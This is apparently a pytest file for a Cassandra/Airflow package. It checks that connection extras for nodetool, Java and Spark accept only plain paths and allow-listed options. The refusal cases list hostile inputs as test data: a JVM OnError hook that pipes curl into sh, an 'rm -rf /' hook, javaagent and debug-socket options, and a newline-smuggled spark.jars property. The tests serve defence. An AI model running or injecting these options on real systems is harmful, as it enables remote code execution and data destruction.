"""Connection extras that name code or where it runs accept plain paths and an allow-list of options only."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest
from ringward.errors import ConfigurationError
from ringward_cassandra.connection_extras import checked_nodetool_extra, checked_spark_conf
from ringward_cassandra.localcluster import runtime


def _executable(tmp_path: Path) -> str:
    path = tmp_path / "nodetool"
    path.write_text("#!/bin/sh\n")
    path.chmod(0o755)
    return str(path)


def test_the_local_clusters_nodetool_extra_passes(tmp_path: Path) -> None:
    extra = {
        "nodetool_path": _executable(tmp_path),
        "java_binary": _executable(tmp_path),
        "java_classpath": "/opt/cassandra/conf:/opt/cassandra/lib/*",
        "java_options": [*runtime.client_jvm_options(), "-Dlogback.configurationFile=/opt/conf/logback-tools.xml",
                         "-Djavax.net.ssl.trustStore=/etc/tls/ts.p12", "-Djavax.net.ssl.trustStorePassword=s3cret",
                         "-Djavax.net.ssl.trustStoreType=PKCS12"],
    }  # fmt: skip
    assert checked_nodetool_extra(extra) is extra
    assert checked_nodetool_extra({}) == {}  # defaults: nodetool and java from the worker's PATH


@pytest.mark.parametrize(
    "extra, named",
    [
        ({"nodetool_path": "nodetool"}, "nodetool_path"),
        ({"nodetool_path": "/nonexistent/bin/nodetool"}, "nodetool_path"),
        ({"nodetool_path": "/tmp"}, "nodetool_path"),  # a folder, not a file
        ({"java_binary": "../java"}, "java_binary"),
        ({"java_classpath": "lib/*"}, "java_classpath"),
        ({"java_classpath": "/opt/lib/*:evil.jar"}, "java_classpath"),
        ({"java_options": ["-javaagent:/tmp/agent.jar"]}, "java_options"),
        ({"java_options": ["-XX:OnError=sh -c 'curl evil | sh'"]}, "java_options"),
        ({"java_options": ["-XX:OnOutOfMemoryError=rm -rf /"]}, "java_options"),
        ({"java_options": ["-agentlib:jdwp=transport=dt_socket,server=y"]}, "java_options"),
        ({"java_options": ["-Xmx128m -javaagent:/tmp/a.jar"]}, "java_options"),
        ({"java_options": ["@/tmp/argfile"]}, "java_options"),
        ({"java_options": "-Xmx128m"}, "java_options"),
    ],
)
def test_nodetool_extras_that_are_not_plain_paths_or_options_are_refused(extra: dict[str, object], named: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        checked_nodetool_extra(extra, "ringward_nodetool")
    assert f"Connection 'ringward_nodetool': extra {named} = " in caught.value.problem
    assert caught.value.fix


def test_a_nodetool_path_that_is_not_executable_is_refused(tmp_path: Path) -> None:
    plain = tmp_path / "nodetool"
    plain.write_text("")
    with pytest.raises(ConfigurationError, match="not executable"):
        checked_nodetool_extra({"nodetool_path": str(plain)})


def test_the_nodetool_hook_refuses_a_java_agent(monkeypatch: pytest.MonkeyPatch) -> None:
    from ringward_airflow.hooks import NodetoolHook

    conn = SimpleNamespace(extra_dejson={"java_options": ["-javaagent:/tmp/a.jar"]}, host=None, port=None,
                           login=None, password=None)  # fmt: skip
    hook = NodetoolHook()
    monkeypatch.setattr(hook, "get_connection", lambda conn_id: conn)
    with pytest.raises(ConfigurationError, match="-javaagent"):
        hook.client  # noqa: B018


def test_ringward_conf_takes_sizing_and_connector_properties_only() -> None:
    fine = {"spark.executor.memory": "2g", "spark.cassandra.input.readsPerSec": "100",
            "spark.cassandra.connection.ssl.trustStore.path": "/etc/ts.jks",
            "spark.authenticate.secret": "x", "spark.network.crypto.enabled": "true",
            "spark.pyspark.python": "/usr/bin/python3.11"}  # fmt: skip
    assert checked_spark_conf(fine) is fine  # the test Spark cluster's own connection sets spark.pyspark.python
    for key in ("spark.jars", "spark.driver.extraJavaOptions", "spark.executor.extraClassPath", "spark.plugins",
                "spark.extraListeners", "spark.driver.extraLibraryPath"):  # fmt: skip
        with pytest.raises(ConfigurationError, match=f"extra ringward-conf = '{key}'"):
            checked_spark_conf({key: "-javaagent:/tmp/a.jar"})
    with pytest.raises(ConfigurationError, match="control character"):
        checked_spark_conf({"spark.executor.memory": "2g\nspark.jars=/tmp/x.jar"})
